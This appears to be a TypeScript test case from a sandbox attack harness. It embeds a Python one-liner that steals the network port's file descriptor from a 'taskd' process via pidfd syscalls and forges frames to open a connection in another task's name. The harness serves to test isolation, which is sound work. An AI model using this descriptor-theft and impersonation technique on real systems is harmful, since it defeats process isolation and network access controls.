import { network } from "../../../harness/attacks/attack.ts";
import { connected, ONE } from "../network/reached.ts";

/** Takes the port of the network out of taskd's hands, and opens a connection of another task. */
const FORGE = `python3 -I -S -c '
import ctypes, glob, os, subprocess, time
libc = ctypes.CDLL(None)
taskd = int(subprocess.check_output(["pgrep", "-o", "-f", "taskd[.]mjs"]))
names = {open(path).read().strip(): path.split("/")[-2] for path in glob.glob("/sys/class/virtio-ports/*/name")}
port = next(int(fd) for fd in os.listdir(f"/proc/{taskd}/fd") if os.readlink(f"/proc/{taskd}/fd/{fd}") == "/dev/" + names["piwork.network"])
mine = libc.syscall(438, libc.syscall(434, taskd, 0), port, 0)
os.set_blocking(mine, True)
def frame(kind, payload):
    return bytes([kind]) + len(payload).to_bytes(3, "big") + (0x70000000).to_bytes(4, "big") + payload
asked = b"GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\nConnection: close\\r\\n\\r\\n"
os.write(mine, frame(2, os.environ["VICTIM"].encode()) + frame(3, asked))
print("forged", flush=True)
time.sleep(1.5)'`;

/** The root of a machine may say of its tasks what it likes, but its machine has one task alone. */
export const networkForged = network(
  "network-across",
  { lane: "forged", reached: connected, allowOther: ONE, control: "machine", isDirect: true, ruinous: true },
  [["forged", "opens a connection in the name of another task", FORGE]],
);
